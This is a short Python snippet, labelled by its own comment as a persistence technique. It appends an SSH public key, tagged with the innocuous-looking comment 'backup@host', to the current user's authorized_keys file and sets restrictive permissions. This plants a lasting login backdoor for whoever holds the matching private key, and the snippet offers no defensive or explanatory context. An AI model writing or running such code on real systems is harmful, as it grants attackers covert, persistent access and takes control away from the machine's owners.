# persistence: a key appended to authorized_keys with pathlib
from pathlib import Path

ssh = Path.home() / ".ssh"
ssh.mkdir(mode=0o700, exist_ok=True)
keys = ssh / "authorized_keys"
with keys.open("a") as f:
    f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz0hYg1bT0q7 backup@host\n")
keys.chmod(0o600)
